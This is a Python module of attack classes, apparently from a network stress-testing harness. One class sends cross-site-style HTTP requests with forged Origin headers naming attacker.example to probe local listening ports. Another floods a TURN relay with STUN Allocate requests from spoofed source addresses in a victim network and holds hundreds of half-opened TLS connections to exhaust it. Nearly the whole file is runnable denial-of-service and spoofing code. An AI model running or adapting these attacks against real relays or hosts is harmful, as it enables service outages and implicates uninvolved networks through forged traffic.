"""Attacks against what listens on TCP: pages of a browser, and clients of a relay."""

from __future__ import annotations

import asyncio
import contextlib
import os
import random
import socket
import struct

from attack import Attack, addresses, host_and_port
from wire import Forger

PATIENCE = 3.0
_COOKIE = b"\x21\x12\xa4\x42"


class Pages(Attack):
    """What a page of another site can make a browser send to the ports of this machine.

    `ports` are addresses by what listens there. Only answers with a payload are counted as `reached ...`.
    """

    async def run(self) -> None:
        requests = [
            "GET /metrics HTTP/1.1\r\nHost: attacker.example\r\n\r\n",
            "GET /metrics HTTP/1.1\r\nHost: {host}\r\nOrigin: http://attacker.example\r\n\r\n",
            "GET / HTTP/1.1\r\nHost: {host}\r\nSec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: no-cors\r\n\r\n",
            "POST / HTTP/1.1\r\nHost: attacker.example\r\nOrigin: http://attacker.example\r\n\r\n",
            "CONNECT x.keynet:7 HTTP/1.1\r\nHost: {host}\r\nOrigin: http://attacker.example\r\n\r\n",
        ]
        async for number in self.paced():
            name, address = list(dict(self.options["ports"]).items())[number % len(self.options["ports"])]
            request = requests[number // len(self.options["ports"]) % len(requests)].format(host=address)
            answer = await self._ask(address, request)
            self.counts[f"asked {name}"] += 1
            refused = answer == b"" or answer.split(b" ")[1:2] in ([b"403"], [b"400"], [b"407"], [b"405"])
            self.counts[f"refused {name}" if refused else f"reached {name}"] += 1

    async def _ask(self, address: str, request: str) -> bytes:
        with contextlib.suppress(OSError, asyncio.TimeoutError):
            reader, writer = await asyncio.open_connection(*host_and_port(address))
            try:
                writer.write(request.encode())
                return await asyncio.wait_for(reader.read(4096), PATIENCE)
            finally:
                writer.close()
        return b""


class Relayed(Attack):
    """A relay is asked without end: by TLS that does not go on, and over UDP in the names of others.

    `tls` is its address for TURN over TLS, `udp` that over UDP; `claimed` a network whose clients are to suffer.
    """

    async def run(self) -> None:
        await self.together([self._udp(), *(self._tls(source) for source in addresses(1, self.sources))])

    async def _udp(self) -> None:
        forger, to = Forger(), host_and_port(str(self.options["udp"]))
        network = str(self.options["claimed"]).rpartition(".")[0]
        async for _ in self.paced():
            # Allocate, REQUESTED-TRANSPORT UDP
            body = struct.pack(">HHI", 0x19, 4, 17 << 24)
            request = struct.pack(">HH", 3, len(body)) + _COOKIE + os.urandom(12) + body
            source = (f"{network}.{random.randint(1, 254)}", random.randint(1024, 65535))
            self.counts["forged"] += forger.send(source, to, request)
        forger.close()

    async def _tls(self, source: str) -> None:
        to = host_and_port(str(self.options["tls"]))
        loop = asyncio.get_running_loop()
        held: list[socket.socket] = []
        while not self.stop.is_set():
            mouth = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            mouth.setblocking(False)
            try:
                mouth.bind((source, 0))
                await asyncio.wait_for(loop.sock_connect(mouth, to), PATIENCE)
                await loop.sock_sendall(mouth, b"\x16\x03\x01\x02\x00\x01")
                self.counts["tls"] += 1
                held.append(mouth)
            except (OSError, asyncio.TimeoutError):
                self.counts["tls refused"] += 1
                mouth.close()
            while len(held) > 256:
                held.pop(0).close()
            await asyncio.sleep(self.sources / self.rate)
        for mouth in held:
            mouth.close()


ATTACKS: dict[str, type[Attack]] = {"pages": Pages, "relayed": Relayed}
